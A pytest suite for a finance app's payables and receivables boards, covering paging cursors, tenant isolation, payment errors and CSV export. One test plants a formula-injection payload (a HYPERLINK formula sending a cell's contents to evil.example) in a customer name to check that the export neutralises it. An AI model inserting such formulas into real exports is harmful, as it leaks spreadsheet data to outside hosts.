"""Boards and their CSV exports: each group of a board shows GROUP_PAGE titles at a time and says how many it has,
"Mostrar mais" (htmx, keyset cursor) bringing the next ones down to the last; the CSV streams every open title
(read in batches) with the board's pt-BR group and situation labels, dates as dd/mm/aaaa, and cells safe against
formula injection (receivables as well as payables)."""
import csv
import html as html_lib
import io
import re
from datetime import timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
import sqlalchemy as sa

from blueprints.web import billing as boards  # the boards (and their CSV exports) are drawn there
from core.clock import brasilia_today
from core.csv_export import csv_stream
from core.db import db
from core.tenancy import tenant_scope
from domain.payables.models import Payable
from tests.finance.conftest import access_key
from tests.finance.test_pages import make_payable
from tests.fixtures.core import csrf_from


@pytest.fixture
def client(login, make_user, fin_company):
    return login(make_user(fin_company, role="financeiro"))


def csv_rows(client, path) -> list[dict]:
    response = client.get(path, buffered=False)  # the export streams: read it as it comes
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.is_streamed
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def many_payables(company, count_of_120: int, **fields):
    """`count_of_120` × 120 monthly installments (the most one title takes), from today on."""
    for n in range(count_of_120):
        make_payable(company, descricao=f"Financiamento {n}", valor_centavos=120_000, parcela_total=120, **fields)


def emitted_receivable(fin_api, partner, due=None) -> None:
    document = fin_api.post("/billing/documents", json={
        "kind": "cte", "customer_partner_id": str(partner.id), "chave": access_key("57"),
        "valor_centavos": 10000}).get_json()["data"]
    body = {"document_ids": [document["id"]], "emit": True}
    if due is not None:
        body["vencimento_at"] = due.isoformat()
    assert fin_api.post("/billing/invoices", json=body).status_code == 201


# --- Every title of a group is reached, a page at a time -------------------------------------------------

def more_link(html: str, group: str) -> str | None:
    """The group's "Mostrar mais" URL in `html` (None when the group has no more)."""
    match = re.search(rf'<tr id="load-more-{group}">.*?hx-get="([^"]+)"', html, re.S)
    return html_lib.unescape(match.group(1)) if match else None


def row_ids(html: str) -> list[str]:
    return re.findall(r'data-testid="board-row" data-id="([^"]+)"', html)


def walk_group(client, group: str, first: str) -> list[str]:
    """Every row id of `group`, following "Mostrar mais" as htmx does (only the rows come back)."""
    seen, url = [], more_link(first, group)
    section = first.split(f'id="grupo-{group}"', 1)[1].split("</section>", 1)[0]
    seen += row_ids(section)
    while url:
        response = client.get(url, headers={"HX-Request": "true", "HX-Target": f"load-more-{group}"})
        assert response.status_code == 200 and "<html" not in response.get_data(as_text=True)
        fragment = response.get_data(as_text=True)
        seen += row_ids(fragment)
        url = more_link(fragment, group)
    return seen


def test_a_board_over_the_page_size_reaches_its_last_title_by_mostrar_mais(client, fin_company, monkeypatch):
    monkeypatch.setattr(boards, "GROUP_PAGE", 7)
    make_payable(fin_company, descricao="Atrasado", vencimento_at=(brasilia_today() - timedelta(days=2)).isoformat())
    many_payables(fin_company, 2)  # 240 more: each financing's first due today, the other 238 a month apart on
    page = client.get("/financeiro/pagar").get_data(as_text=True)
    assert "board-limit" not in page and "Vencidos (1)" in page and "Vencem hoje (2)" in page
    later = walk_group(client, "depois", page)
    with tenant_scope(fin_company.id):
        expected = [str(i) for i in db.session.execute(
            db.select(Payable.id).where(Payable.vencimento_at > brasilia_today() + timedelta(days=7))
            .order_by(Payable.vencimento_at, Payable.id)).scalars()]
    assert len(expected) > 200 and later == expected  # every one, once, in due-date order, the last included
    assert f"Depois ({len(expected)})" in page
    assert more_link(page, "vencidos") is None and more_link(page, "hoje") is None


def test_mostrar_mais_without_javascript_is_the_board_with_that_group_from_there(client, fin_company, monkeypatch):
    monkeypatch.setattr(boards, "GROUP_PAGE", 2)
    for n in range(3):
        make_payable(fin_company, descricao=f"Antigo {n}",
                     vencimento_at=(brasilia_today() - timedelta(days=9 - n)).isoformat())
    make_payable(fin_company, descricao="Hoje 1")
    page = client.get("/financeiro/pagar").get_data(as_text=True)
    assert "Antigo 0" in page and "Antigo 1" in page and "Antigo 2" not in page
    rest = client.get(more_link(page, "vencidos"))
    html = rest.get_data(as_text=True)
    assert rest.status_code == 200 and 'data-testid="board-resumed"' in html
    assert "Antigo 2" in html and "Antigo 0" not in html and "Hoje 1" in html and more_link(html, "vencidos") is None


@pytest.mark.parametrize("path", ["/financeiro/pagar", "/financeiro/receber"])
def test_a_group_without_a_cursor_is_the_first_page_without_the_resumed_banner(client, fin_company, path):
    make_payable(fin_company, descricao="Hoje 1")
    for query in ({"grupo": "hoje"}, {"grupo": "hoje", "cursor": ""}, {}):
        response = client.get(path, query_string=query)
        assert response.status_code == 200 and 'data-testid="board-resumed"' not in response.get_data(as_text=True)


def test_the_receivables_board_pages_its_groups_too(client, fin_api, customer, monkeypatch):
    monkeypatch.setattr(boards, "GROUP_PAGE", 2)
    for days in (1, 2, 3):
        emitted_receivable(fin_api, customer, due=brasilia_today() - timedelta(days=days))
    page = client.get("/financeiro/receber").get_data(as_text=True)
    assert "Vencidos (3)" in page and len(walk_group(client, "vencidos", page)) == 3


@pytest.mark.parametrize("query", [{"grupo": "depois", "cursor": "abc.def"}, {"grupo": "depois", "cursor": "x"}])
def test_a_bad_cursor_is_a_400_naming_it(client, fin_company, query):
    make_payable(fin_company)
    for headers in ({}, {"HX-Request": "true", "HX-Target": "load-more-depois"}):
        response = client.get("/financeiro/pagar", query_string=query, headers=headers)
        assert response.status_code == 400 and "Cursor de paginação inválido" in response.get_data(as_text=True)


def test_a_cursor_of_another_group_or_board_or_an_unknown_group_is_a_400(client, fin_company, monkeypatch):
    monkeypatch.setattr(boards, "GROUP_PAGE", 1)
    make_payable(fin_company, valor_centavos=300, parcela_total=3,
                 vencimento_at=(brasilia_today() + timedelta(days=9)).isoformat())
    cursor = parse_qs(urlsplit(more_link(client.get("/financeiro/pagar").get_data(as_text=True), "depois")).query)
    token = cursor["cursor"][0]
    for path, group in (("/financeiro/pagar", "vencidos"), ("/financeiro/receber", "depois")):
        response = client.get(path, query_string={"grupo": group, "cursor": token})
        assert response.status_code == 400 and "Cursor de paginação inválido" in response.get_data(as_text=True)
    response = client.get("/financeiro/pagar", query_string={"grupo": "todos", "cursor": token})
    assert response.status_code == 400 and "grupo" in response.get_data(as_text=True)


def test_another_company_s_cursor_shows_nothing_of_theirs(client, fin_company, make_company, make_user, login,
                                                          monkeypatch):
    monkeypatch.setattr(boards, "GROUP_PAGE", 1)
    other = make_company(modules=["billing", "financial"])
    make_payable(other, descricao="Deles", valor_centavos=300, parcela_total=3,
                 vencimento_at=(brasilia_today() + timedelta(days=9)).isoformat())
    make_payable(fin_company, descricao="Nosso", vencimento_at=(brasilia_today() + timedelta(days=60)).isoformat())
    theirs = login(make_user(other, role="financeiro"))
    their_more = more_link(theirs.get("/financeiro/pagar").get_data(as_text=True), "depois")
    assert their_more
    for headers in ({}, {"HX-Request": "true", "HX-Target": "load-more-depois"}):
        html = client.get(their_more, headers=headers).get_data(as_text=True)
        assert "Deles" not in html and "Nosso" in html  # after their position, only our titles
    with tenant_scope(other.id):
        their_ids = [str(i) for i in db.session.execute(db.select(Payable.id)).scalars()]
    html = client.get("/financeiro/pagar").get_data(as_text=True)
    assert not set(their_ids) & set(row_ids(html))


def test_a_board_under_the_page_size_shows_everything_without_mostrar_mais(client, fin_company):
    make_payable(fin_company, descricao="Só um")
    page = client.get("/financeiro/pagar").get_data(as_text=True)
    assert 'data-testid="load-more"' not in page and "Vencem hoje (1)" in page and "Só um" in page


def test_the_receivables_board_counts_too(client, fin_api, customer):
    emitted_receivable(fin_api, customer, due=brasilia_today() - timedelta(days=1))
    emitted_receivable(fin_api, customer, due=brasilia_today() + timedelta(days=3))
    page = client.get("/financeiro/receber").get_data(as_text=True)
    assert "Vencidos (1)" in page and "Próximos 7 dias (1)" in page and 'data-testid="load-more"' not in page


# --- A refused payment shows its title, wherever "Mostrar mais" found it ----------------------------------

def row_html(html: str, title_id: str) -> str | None:
    match = re.search(rf'<tr data-testid="board-row" data-id="{title_id}">.*?</tr>', html, re.S)
    return match.group(0) if match else None


def second_overdue_id(client, path: str) -> str:
    """The second overdue title, which only the group's "Mostrar mais" (htmx) brings with GROUP_PAGE = 1."""
    page = client.get(path).get_data(as_text=True)
    shown = row_ids(page)
    fragment = client.get(more_link(page, "vencidos"),
                          headers={"HX-Request": "true", "HX-Target": "load-more-vencidos"})
    [second] = row_ids(fragment.get_data(as_text=True))
    assert second not in shown
    return second


def post(client, path: str, **data):
    data["csrf_token"] = csrf_from(client.get("/financeiro/pagar").get_data(as_text=True))
    return client.post(path, data=data)


def assert_refused_row(response, title_id: str) -> None:
    """422, the title drawn once, at the top of Vencidos, with what was typed and the error under its input."""
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert row_ids(html).count(title_id) == 1
    overdue = html.split('id="grupo-vencidos"', 1)[1].split("</section>", 1)[0]
    assert row_ids(overdue)[0] == title_id
    row = row_html(html, title_id)
    assert f'id="valor-{title_id}-error"' in row and "no máximo o saldo" in row and 'value="500,00"' in row


@pytest.mark.parametrize("kind", ["pagar", "receber"])
def test_a_refused_payment_on_a_title_mostrar_mais_brought_shows_it_with_its_error(
        client, fin_company, fin_api, customer, monkeypatch, kind):
    monkeypatch.setattr(boards, "GROUP_PAGE", 1)
    for days in (3, 2):
        if kind == "pagar":
            make_payable(fin_company, vencimento_at=(brasilia_today() - timedelta(days=days)).isoformat())
        else:
            emitted_receivable(fin_api, customer, due=brasilia_today() - timedelta(days=days))
    second = second_overdue_id(client, f"/financeiro/{kind}")
    action = "pagamento" if kind == "pagar" else "recebimento"
    response = post(client, f"/financeiro/{kind}/{second}/{action}", valor="500,00")
    assert_refused_row(response, second)
    assert more_link(response.get_data(as_text=True), "vencidos")  # the group's own paging is unchanged


def test_a_refused_payment_on_a_title_of_the_first_page_is_drawn_once_in_its_place(client, fin_company,
                                                                                  monkeypatch):
    monkeypatch.setattr(boards, "GROUP_PAGE", 1)
    for days in (3, 2):
        make_payable(fin_company, vencimento_at=(brasilia_today() - timedelta(days=days)).isoformat())
    [first] = row_ids(client.get("/financeiro/pagar").get_data(as_text=True))
    assert_refused_row(post(client, f"/financeiro/pagar/{first}/pagamento", valor="500,00"), first)


def test_a_refused_payment_on_a_title_no_longer_open_says_why_in_the_message(client, fin_company):
    """Not on the board any more (cancelled): the refusal and a field's error are the page's messages."""
    [title] = make_payable(fin_company, vencimento_at=(brasilia_today() - timedelta(days=2)).isoformat())
    assert post(client, f"/financeiro/pagar/{title.id}/cancelar").status_code == 302
    for valor, message in (("100,00", "não está em aberto"), ("abc", "Número inválido")):
        response = post(client, f"/financeiro/pagar/{title.id}/pagamento", valor=valor)
        html = response.get_data(as_text=True)
        assert response.status_code == 422 and row_html(html, str(title.id)) is None, valor
        assert 'class="flash flash-error' in html and message in html.split('data-testid="board-', 1)[0], valor


# --- The export reads every row, in batches --------------------------------------------------------

def test_the_export_crosses_batches_in_due_date_order_without_losing_or_repeating_a_row(client, fin_company,
                                                                                       monkeypatch):
    """Two financings share every due date (ties broken by id): batches of 7 must still give each row once."""
    monkeypatch.setattr(boards, "CSV_BATCH", 7)
    for n in range(2):
        make_payable(fin_company, descricao=f"Lote {n}", valor_centavos=2400, parcela_total=24)
    rows = csv_rows(client, "/financeiro/pagar.csv")
    assert len(rows) == 48
    assert sorted((r["Descrição"], r["Parcela"]) for r in rows) == sorted(
        (f"Lote {n}", f"{i}/24") for n in range(2) for i in range(1, 25))
    days = [tuple(reversed(r["Vencimento"].split("/"))) for r in rows]
    assert days == sorted(days)


def test_csv_stream_chunks_are_the_whole_csv():
    rows = [[n, f"=x{n}"] for n in range(5)]
    chunks = list(csv_stream(("a", "b"), rows, chunk_rows=2))
    assert len(chunks) == 3  # two rows per chunk (the header with the first two), then the last row
    assert b"".join(chunks) == b"".join(csv_stream(("a", "b"), rows, chunk_rows=100))  # one chunk: the same bytes
    assert b"".join(chunks).decode("utf-8-sig").splitlines()[1] == "0;'=x0"


# --- Labels and dates as the board shows them ------------------------------------------------------

def test_the_csv_prints_group_and_situation_labels_and_dates_as_dd_mm_aaaa(client, fin_company):
    overdue = brasilia_today() - timedelta(days=3)
    make_payable(fin_company, descricao="Atrasado", vencimento_at=overdue.isoformat())
    make_payable(fin_company, descricao="Hoje")
    make_payable(fin_company, descricao="Semana", vencimento_at=(brasilia_today() + timedelta(days=5)).isoformat())
    make_payable(fin_company, descricao="Longe", vencimento_at=(brasilia_today() + timedelta(days=40)).isoformat())
    rows = {r["Descrição"]: r for r in csv_rows(client, "/financeiro/pagar.csv")}
    assert {name: r["Grupo"] for name, r in rows.items()} == {
        "Atrasado": "Vencidos", "Hoje": "Vencem hoje", "Semana": "Próximos 7 dias", "Longe": "Depois"}
    assert rows["Atrasado"]["Vencimento"] == overdue.strftime("%d/%m/%Y")
    assert rows["Atrasado"]["Situação"] == "Vencido" and rows["Hoje"]["Situação"] == "Aberto"
    for row in rows.values():  # no internal key, no ISO date anywhere
        assert row["Grupo"] not in ("vencidos", "hoje", "semana", "depois")
        assert "-" not in row["Vencimento"]


# --- Formula injection in the receivables export ---------------------------------------------------

def test_the_receivables_csv_neutralises_a_customer_named_as_a_formula(client, fin_api, fin_company, make_partner):
    hostile = make_partner(fin_company, legal_name='=HYPERLINK("http://evil.example/?x="&A1,"clique")')
    plain = make_partner(fin_company, legal_name="Cliente Comum Ltda")
    emitted_receivable(fin_api, hostile)
    emitted_receivable(fin_api, plain)
    text = client.get("/financeiro/receber.csv").data.decode("utf-8-sig")
    names = {r["Cliente"] for r in csv.DictReader(io.StringIO(text), delimiter=";")}
    assert names == {"'" + hostile.legal_name, "Cliente Comum Ltda"}  # only the formula gets the quote
    assert ";=HYPERLINK" not in text and '"=HYPERLINK' not in text


def test_the_payables_board_shows_the_last_week_s_payments_and_mostrar_mais_does_not_read_them(
        client, fin_company, monkeypatch):
    monkeypatch.setattr(boards, "GROUP_PAGE", 2)
    [recent, old] = [make_payable(fin_company, descricao=text)[0] for text in ("Pago ontem", "Pago há 8 dias")]
    many_payables(fin_company, 1)  # a "depois" group over the page size
    with tenant_scope(fin_company.id):
        for made, days in ((recent, 1), (old, 8)):
            title = db.session.get(Payable, made.id)
            paid_on = brasilia_today() - timedelta(days)
            title.status, title.pago_centavos, title.pago_em = "pago", title.valor_centavos, paid_on
        db.session.commit()
    page = client.get("/financeiro/pagar").get_data(as_text=True)
    paid = page.split('data-testid="recently-paid"', 1)[1].split("</table>", 1)[0]
    assert "Pago ontem" in paid and "Pago há 8 dias" not in paid
    statements = []

    def record(conn, cursor, statement, parameters, context, executemany):
        statements.append(statement)
    sa.event.listen(db.engine, "before_cursor_execute", record)
    try:
        response = client.get(more_link(page, "depois"),
                              headers={"HX-Request": "true", "HX-Target": "load-more-depois"})
    finally:
        sa.event.remove(db.engine, "before_cursor_execute", record)
    assert response.status_code == 200 and row_ids(response.get_data(as_text=True))
    assert [s for s in statements if "payables" in s] and not [s for s in statements if "pago_em >=" in s]
